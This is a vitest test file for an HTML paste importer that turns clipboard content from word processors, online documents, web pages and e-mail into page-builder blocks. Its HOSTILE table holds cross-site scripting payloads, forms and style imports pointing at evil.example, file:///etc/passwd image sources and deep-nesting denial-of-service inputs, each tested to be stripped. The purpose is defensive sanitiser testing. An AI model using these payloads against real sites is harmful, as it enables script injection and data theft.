import { blockCatalog } from "@vitrine/blocks";
import { type Fragment, type InlineNode, readFragment } from "@vitrine/document";
import { describe, expect, test } from "vitest";
import { readHtmlFragment } from "./read-html-fragment.ts";
import { COPIED_HTML } from "./testing/copied-html.data.ts";

const read = (html: string) => readHtmlFragment(html, "pt");
/** As a browser gets it, and checks it. */
function pasted(html: string): Fragment {
  const fragment = readFragment(JSON.parse(JSON.stringify(read(html).fragment)), blockCatalog);
  return fragment.ok ? fragment.value : expect.fail(JSON.stringify(fragment.problems));
}
const rootKinds = ({ rootIds, blocks }: Fragment): string[] => rootIds.map((id) => blocks.find((block) => block.id === id)?.kind ?? "");
const wordsIn = (fragment: Fragment): string =>
  [...JSON.stringify(fragment).matchAll(/"text":"([^"]*)"/g)].map(([, text]) => text).join("");
const marked = (fragment: Fragment, mark: string): string[] =>
  fragment.blocks.flatMap(({ props }) => {
    const content = (props.content ?? []) as unknown as { content?: InlineNode[] }[];
    const nodes = content.flatMap((each) => each.content ?? [each as unknown as InlineNode]);
    return nodes.flatMap((node) => (node.type === "text" && node.marks?.some(({ type }) => type === mark) ? [node.text] : []));
  });
const looksOf = (fragment: Fragment): unknown[] =>
  fragment.blocks.map(({ styles }) => styles).filter((styles) => Object.keys(styles).length > 0);

describe("what programs put on the clipboard becomes blocks of the page it is pasted into", () => {
  test("a word processor's headings, formatting and lists", () => {
    const fragment = pasted(COPIED_HTML.word);
    expect(rootKinds(fragment)).toEqual(["heading", "text", "list", "list"]);
    expect(fragment.blocks.flatMap(({ kind, props }) => (kind === "list" ? [props.marker] : []))).toEqual(["disc", "number"]);
    expect(wordsIn(fragment)).toBe("Oferta de verãoAté domingo, só aqui.Frete grátisTroca fácilPrimeiro");
    expect([marked(fragment, "bold"), marked(fragment, "italic"), marked(fragment, "link")]).toEqual([["domingo"], ["só"], ["aqui"]]);
    expect(looksOf(fragment)).toEqual([]);
    expect(read(COPIED_HTML.word).notices).toMatchObject([{ code: "picture", examples: ["file:///C:/Users/x/clip_image001.png"] }]);
  });

  test("an online document's, whose picture is named by its address", () => {
    const { pictures } = read(COPIED_HTML.docs);
    const fragment = pasted(COPIED_HTML.docs);
    expect(rootKinds(fragment)).toEqual(["heading", "text", "list", "image"]);
    expect([marked(fragment, "bold"), marked(fragment, "italic")]).toEqual([["forte"], [" e leve"]]);
    const [[id = "", address] = []] = Object.entries(pictures);
    expect(address).toBe("https://lh7-rt.googleusercontent.com/docsz/abc");
    expect(fragment.blocks.at(-1)?.props.image).toMatchObject({ imageId: id });
  });

  test("another web page's, with its columns and buttons and without its paper", () => {
    const fragment = pasted(COPIED_HTML.page);
    expect(rootKinds(fragment)).toEqual(["heading", "text", "columns"]);
    expect(fragment.blocks.flatMap(({ kind, props }) => (kind === "button" ? [props.href] : []))).toEqual(["https://x.example/b"]);
    expect(JSON.stringify(looksOf(fragment))).not.toMatch(/background|color|fontSize/);
  });

  test("an e-mail's paragraphs and quotation", () => {
    const fragment = pasted(COPIED_HTML.mail);
    expect(rootKinds(fragment)).toEqual(["text", "text"]);
    expect(fragment.tokens.map(({ id }) => id)).toEqual(["color-line"]);
  });

  test("sections that somebody sees are sections; a single one is a box that stands anywhere", () => {
    const fragment = pasted(COPIED_HTML.elementor);
    expect(rootKinds(fragment)).toEqual(["section", "section"]);
    const [first = "", second = ""] = fragment.rootIds;
    const colorIn = (parent: string) => fragment.blocks.find(({ parentId }) => parentId === parent)?.styles.base?.normal?.color;
    expect(colorIn(second)).toBeUndefined();
    expect(fragment.blocks.find(({ id }) => id === first)?.styles.base?.normal?.background).toEqual({ type: "color", value: "#112233" });
    expect(rootKinds(pasted('<section style="background:#112233"><h2>Oi</h2></section>'))).toEqual(["container"]);
  });

  test("words that stand on a ground which came along keep their colour", () => {
    const [heading] = pasted(
      '<section style="background:#112233"><h2 style="color:#eeeeee">Oi</h2><h2 style="color:#eeeeee">E</h2><h2>a</h2></section>',
    ).blocks.filter(({ kind }) => kind === "heading");
    const bare = pasted('<h2 style="color:#eeeeee">Oi</h2><h2>a</h2><h2>b</h2>').blocks;
    expect(JSON.stringify(bare)).not.toContain("#eeeeee");
    expect(heading).toBeDefined();
  });
});

const nested = (depth: number, tag = "div"): string => `${`<${tag}>`.repeat(depth)}x${`</${tag}>`.repeat(depth)}`;

/** Each with the words that may be left of it; null where nothing of it is taken. */
const HOSTILE: readonly (readonly [string, string, string | null])[] = [
  ["a script", "<p>oi</p><script>alert(1)</script>", "oi"],
  ["a script in a drawing", "<p>oi</p><svg><script>alert(1)</script></svg>", "oi"],
  ["nothing but a script", "<script>alert(1)</script>", null],
  ["handlers", '<p onclick="alert(1)" onmouseover=alert(1)>oi</p><img src=x onerror=alert(1)>', "oi"],
  ["a link that runs", '<a href="javascript:alert(1)">oi</a>', "oi"],
  ["a link that runs, written otherwise", '<a href="&#106;ava\tscript&colon;alert(1)">oi</a>', "oi"],
  ["a link to a page in itself", '<a href="data:text/html,<script>alert(1)</script>">oi</a>', "oi"],
  ["a button that runs", '<a class=btn href="vbscript:msgbox(1)">oi</a>', "oi"],
  ["a base that runs", '<base href="javascript:alert(1)//"><a href="x">oi</a>', "oi"],
  ["a refresh", '<meta http-equiv=refresh content="0;url=javascript:alert(1)"><p>oi</p>', "oi"],
  ["a frame of elsewhere", '<p>oi</p><iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>', "oi"],
  ["an object", '<p>oi</p><object data="https://evil.example/x.swf"></object><embed src="javascript:alert(1)">', "oi"],
  [
    "a form that sends elsewhere",
    '<form action="https://evil.example/take"><input name=email><button formaction="javascript:alert(1)">Ir</button></form>',
    "",
  ],
  ["style sheets that fetch", '<style>@import "https://evil.example/x.css";p{background:url(javascript:alert(1))}</style><p>oi</p>', "oi"],
  ["a style that is code", '<p style="width:expression(alert(1));behavior:url(#x);-moz-binding:url(https://evil.example/x)">oi</p>', "oi"],
  ["a style that leaves its place", '<p style="color:red}body{display:none">oi</p>', "oi"],
  ["a picture that is a page", '<p>oi</p><img src="data:image/svg+xml,<svg onload=alert(1)>">', "oi"],
  ["a picture of this machine", '<p>oi</p><img src="file:///etc/passwd"><img src="\\\\evil.example\\x.png">', "oi"],
  ["a picture with a password", '<p>oi</p><img src="https://a:b@evil.example/x.png">', "oi"],
  [
    "markup that changes while it is read",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">oi</p></noscript><p>oi</p>',
    "oioi",
  ],
  ["markup in mathematics", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math><p>oi</p>", "oi"],
  ["a template", "<template><script>alert(1)</script><p>não</p></template><p>oi</p>", "oi"],
  ["a comment that ends early", "<!--><script>alert(1)</script>--><p>oi</p>", "-->oi"],
  ["names that every object has", '<p id="__proto__" class="constructor toString">oi</p><constructor>a</constructor>', "oia"],
  ["an own attribute of blocks that are none", "<div data-vitrine-blocks='{}'>oi</div>", "oi"],
  ["a character that ends texts", "<p>o\u0000i</p>", "oi"],
  ["a half of a character", "<p>oi\ud800</p>", "oi\ufffd"],
  ["three hundred levels", nested(280), "x"],
  ["endless levels", nested(100_000), null],
  ["endless formatting", nested(5_000, "b"), null],
  ["formatting that is never ended", `${"<b><i><u>".repeat(60)}${"<p>oi".repeat(500)}`, ""],
  ["formatting that is begun anew in each paragraph", "<p><b><i><u>oi".repeat(2_000), null],
  ["a table in a table in a table", nested(200, "table"), "x"],
  ["elements by the tens of thousands", "<br>".repeat(25_000), null],
  ["a style of a million characters", `<p style="${"color:red;".repeat(90_000)}">oi</p>`, "oi"],
  ["a word without end", `<p>${"x".repeat(900_000)}</p>`, ""],
  ["nothing at all", "", null],
  ["words without a tag", "oi", null],
];

test.each(HOSTILE)("%s is harmless", (_, html, words) => {
  if (words === null) {
    expect(() => read(html)).toThrow(/INVALID_HTML|document/);
    return;
  }
  const fragment = pasted(html);
  if (words !== "") expect(wordsIn(fragment)).toBe(words);
  const { pictures } = read(html);
  for (const address of Object.values(pictures)) expect(address).toMatch(/^https?:\/\/(?!.*@)/);
  const said = JSON.stringify(fragment.blocks.map(({ props, styles, ...block }) => [props.href, styles, block]));
  expect(said).not.toMatch(/javascript|vbscript|alert|evil|expression|data:|file:|onerror|passwd/i);
  expect(JSON.stringify(fragment)).not.toMatch(/"href":"(?:javascript|vbscript|data|file)/i);
});

test("of style sheets only so much is compared, whatever was copied", () => {
  const rules = Array.from({ length: 4_000 }, (_, index) => `.a${index % 50} .b .c{color:#${String(100_000 + index)}}`).join("");
  const { notices } = read(`<style>${rules}</style>${'<div class="a1 b"><p class=c>oi</p></div>'.repeat(2_500)}`);
  expect(notices).toContainEqual({ code: "stylesheet", count: 1, examples: [] });
});
